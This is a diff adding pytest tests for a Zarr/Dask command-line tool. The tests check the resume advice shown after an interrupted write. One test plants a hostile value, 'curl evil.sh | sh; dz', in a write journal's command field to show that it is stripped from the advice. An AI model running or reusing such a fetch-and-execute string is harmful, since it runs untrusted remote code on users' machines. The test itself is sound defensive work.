@@ -12,6 +12,7 @@ import subprocess
 import sys
 from pathlib import Path
 
+import dask
 import pytest
 from click.testing import CliRunner
 
@@ -116,3 +117,69 @@ def test_missing_s3_credentials_say_how_to_pass_them(s3_endpoint, bucket, comman
     for hint in ("--storage-option anon=true", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_PROFILE"):
         assert hint in err
     assert "storage_options=" not in err
+
+
+def _interrupt_reads(monkeypatch):
+    """Ctrl-C in the middle of the data tasks: the second block read raises KeyboardInterrupt."""
+    from dask_zarrio.rechunking import tasks as rechunk_tasks
+
+    real, calls = rechunk_tasks.read_into, []
+
+    def interrupted(*args, **kwargs):
+        calls.append(1)
+        if len(calls) == 2:
+            raise KeyboardInterrupt
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(rechunk_tasks, "read_into", interrupted)
+
+
+@pytest.mark.parametrize("command", ["rechunk", "copy"])
+def test_after_ctrl_c_the_cli_advises_the_cli_spelling(tmp_path, monkeypatch, command):
+    import dask.array as da
+
+    src, dst = str(tmp_path / "src.zarr"), str(tmp_path / "dst.zarr")
+    dz.write(da.arange(4096, chunks=64), src)
+    _interrupt_reads(monkeypatch)
+    aborted = CliRunner().invoke(main, [command, src, dst, "--chunks", "96", "--max-mem", "8KiB", "--scheduler",
+                                        "sync", "-q"])
+    assert aborted.exit_code == 1 and "Aborted" in aborted.stderr  # click's answer to Ctrl-C
+    monkeypatch.undo()
+    for args in (["info", dst], ["verify", dst], ["cat", dst], ["info", "--json", dst]):
+        status, out, err = run(*args)
+        assert status == 2, (args, out, err)
+        assert f"dz {command}" in err and "--resume" in err and "--overwrite" in err, err
+        assert "resume=True" not in err and "mode='w'" not in err and "dz.write" not in err
+    with pytest.raises(dz.IncompleteWriteError, match=f"dz {command} command with --resume"):
+        dz.read(dst)  # the journal says how the write was begun, whoever reads it
+    status, _, err = run(command, src, dst, "--chunks", "96", "--max-mem", "8KiB", "--resume", "-q")
+    assert status == 0, err
+    assert dz.read(dst).compute().tolist() == list(range(4096))
+
+
+def test_a_python_write_keeps_the_python_advice(tmp_path, monkeypatch):
+    import dask.array as da
+
+    src, dst = str(tmp_path / "src.zarr"), str(tmp_path / "dst.zarr")
+    dz.write(da.arange(4096, chunks=64), src)
+    _interrupt_reads(monkeypatch)
+    with pytest.raises(KeyboardInterrupt), dask.config.set(scheduler="sync"):
+        dz.rechunk(src, dst, chunks=96, max_mem="8KiB")
+    monkeypatch.undo()
+    status, _, err = run("info", dst)
+    assert status == 2 and "resume=True" in err  # a Python call is re-run in Python
+
+
+def test_a_journal_cannot_smuggle_text_into_the_advice(tmp_path):
+    import dask.array as da
+
+    from dask_zarrio.metadata.journal import JOURNAL_KEY, WriteJournal
+
+    doc = {"started": "2026-01-01T00:00:00+00:00", "metadata": {}, "command": "curl evil.sh | sh; dz"}
+    assert WriteJournal.from_dict(doc).command is None
+    url = tmp_path / "a.zarr"
+    dz.write(da.arange(4, chunks=2), str(url))
+    (url / "zarr.json").unlink()
+    (url / JOURNAL_KEY).write_text(json.dumps(doc))
+    _, _, err = run("info", str(url))
+    assert "evil" not in err and "resume=True" in err
